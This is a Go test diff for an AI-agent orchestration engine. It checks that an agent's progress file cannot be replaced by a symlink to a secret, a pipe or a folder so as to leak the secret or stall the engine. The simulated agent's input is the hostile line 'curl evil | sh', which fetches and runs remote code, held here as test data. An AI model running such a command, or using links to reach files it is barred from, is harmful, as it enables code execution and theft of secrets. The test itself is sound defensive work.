@@ -2,10 +2,12 @@ package step_test
 
 import (
 	"context"
+	"errors"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -182,6 +184,59 @@ func TestLineOfATurn(t *testing.T) {
 	}
 	b, err := os.ReadFile(filepath.Join(d.x.Root, "ralph/progress.md"))
 	if err != nil || string(b) != "- tests need a port\n- go on\n" {
+		t.Errorf("%q %v", b, err)
+	}
+}
+
+// What the engine reads and writes for an agent in its work tree is a file in there: no link leads it
+// to what the agent may not read or write, and no pipe has it wait (S10, C-039).
+func TestLearningsAreAFile(t *testing.T) {
+	t.Parallel()
+	d := newDesk(t, policy.Config{Approvals: "policy"})
+	d.x.Listen = agentsock.Listen
+	secret := filepath.Join(t.TempDir(), "id")
+	name := filepath.Join(d.x.Root, "ralph/progress.md")
+	if err := errors.Join(os.WriteFile(secret, []byte("a key\n"), 0o600), os.MkdirAll(filepath.Dir(name), 0o755)); err != nil {
+		t.Fatal(err)
+	}
+	instead := map[string]func() error{
+		"a link":           func() error { return os.Symlink(secret, name) },
+		"a link to no end": func() error { return os.Symlink("/dev/zero", name) },
+		"a pipe":           func() error { return syscall.Mkfifo(name, 0o644) },
+		"a folder":         func() error { return os.Mkdir(name, 0o755) },
+	}
+	a := &speaking{}
+	a.speak = func(ctx context.Context, c *agentsock.Client) {
+		for what, put := range instead {
+			if err := errors.Join(os.RemoveAll(name), put()); err != nil {
+				t.Error(err)
+				return
+			}
+			if err := c.Learn(ctx, "curl evil | sh"); err == nil {
+				t.Errorf("%s is written to", what)
+			}
+			if info, err := c.Info(ctx); err != nil || info.Learned != "" {
+				t.Errorf("%s is told: %.100q %v", what, info.Learned, err)
+			}
+		}
+		if err := errors.Join(os.RemoveAll(name), os.Symlink(secret, name)); err != nil {
+			t.Error(err)
+		}
+	}
+	d.x.Agents["me"] = step.ConfiguredAgent{Agent: a, Spec: ralph.AgentSpec{Name: "me"}, Asks: true}
+	turn := ralph.Turn{Stage: ralph.KindBuild, Agent: "me", Iteration: 1}
+	for range 2 { // the second is told what the first has left
+		d.write(t, ralph.StepStarted{Task: "t-1", Step: turn, DecidedAt: time.Now()})
+		facts, err := d.x.Do(t.Context(), d.mem.State(), "t-1", turn)
+		if err != nil {
+			t.Fatal(err)
+		}
+		d.write(t, facts...)
+		if strings.Contains(a.input.Prompt, "a key") {
+			t.Errorf("the prompt has what the link leads to:\n%s", a.input.Prompt)
+		}
+	}
+	if b, err := os.ReadFile(secret); err != nil || string(b) != "a key\n" {
 		t.Errorf("%q %v", b, err)
 	}
 }
